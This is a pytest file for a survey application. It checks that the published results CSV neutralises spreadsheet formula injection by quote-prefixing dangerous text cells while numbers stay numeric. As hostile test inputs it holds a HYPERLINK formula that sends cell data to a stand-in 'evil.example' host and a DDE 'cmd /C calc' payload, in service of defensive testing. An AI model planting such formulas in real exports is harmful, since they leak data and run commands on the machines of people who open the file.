"""The published results' CSV opened in a spreadsheet: typed text never runs as a formula,
numbers stay numbers (survey/csvsafe.py)."""

from __future__ import annotations

import csv
import io

from survey.csvsafe import safe_cell
from survey.extensions import db
from survey.models import Programme
from survey.publication.criteria import define_criterion, import_criteria_file
from tests.publication.test_public import _manager


def test_safe_cell_guards_text_only():
    for text in ("=1+1", "+33 6", "-x", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Appels") == "Appels" and safe_cell("") == ""
    assert safe_cell(-0.04) == -0.04 and safe_cell(-3) == -3 and safe_cell(None) is None


def test_a_hostile_criterion_label_is_text_in_the_downloaded_csv(app, client, campaigns):
    hostile_fr = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
    hostile_en = "@SUM(1+1)*cmd|' /C calc'!A0"
    with app.app_context():
        programme = db.session.get(Programme, campaigns["programme_id"])
        define_criterion(db.session, programme, code="hostile", label_fr=hostile_fr,
                         label_en=hostile_en, unit="rate", target=0.5, direction="higher",
                         item=None, actor="test")
        months = "".join(f"2026-{m:02d};hostile;;{600 + m};1000\n" for m in range(1, 13))
        import_criteria_file(db.session, programme,
                             f"month;criterion;value;numerator;denominator\n{months}".encode(),
                             "hostile.csv", actor="test")
        db.session.commit()
    _manager(app, client)
    done = client.post(f"/manage/programmes/{campaigns['programme_id']}/publication",
                       data={"publish-slug": "service-client"})
    assert done.status_code == 303
    anonymous = app.test_client()
    results = anonymous.get("/p/service-client/results.json").get_json()
    rows = list(csv.DictReader(io.StringIO(
        anonymous.get("/p/service-client/results.csv").get_data(as_text=True))))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            # A minus only ever starts a number.
            if value.startswith("-"):
                float(value)
    # The labels are quoted text in the CSV; the JSON keeps them as typed.
    hostile_rows = [row for row in rows if row["key"] == "hostile"]
    assert hostile_rows and all(float(row["estimate"]) > 0.6 for row in hostile_rows)
    assert hostile_fr in {k["label"]["fr"] for k in results["criteria"]["rows"]}
    for row in hostile_rows:
        assert row["label_fr"] == "'" + hostile_fr and row["label_en"] == "'" + hostile_en
    # The numbers read back as the JSON's.
    headline = {r["key"]: r for r in rows if r["section"] == "headline"}
    for h in results["headline"]:
        assert float(headline[h["indicator"]]["estimate"]) == h["estimate"]
        change = (h.get("change") or {}).get("difference")
        if change is not None:
            assert float(headline[h["indicator"]]["change"]) == change
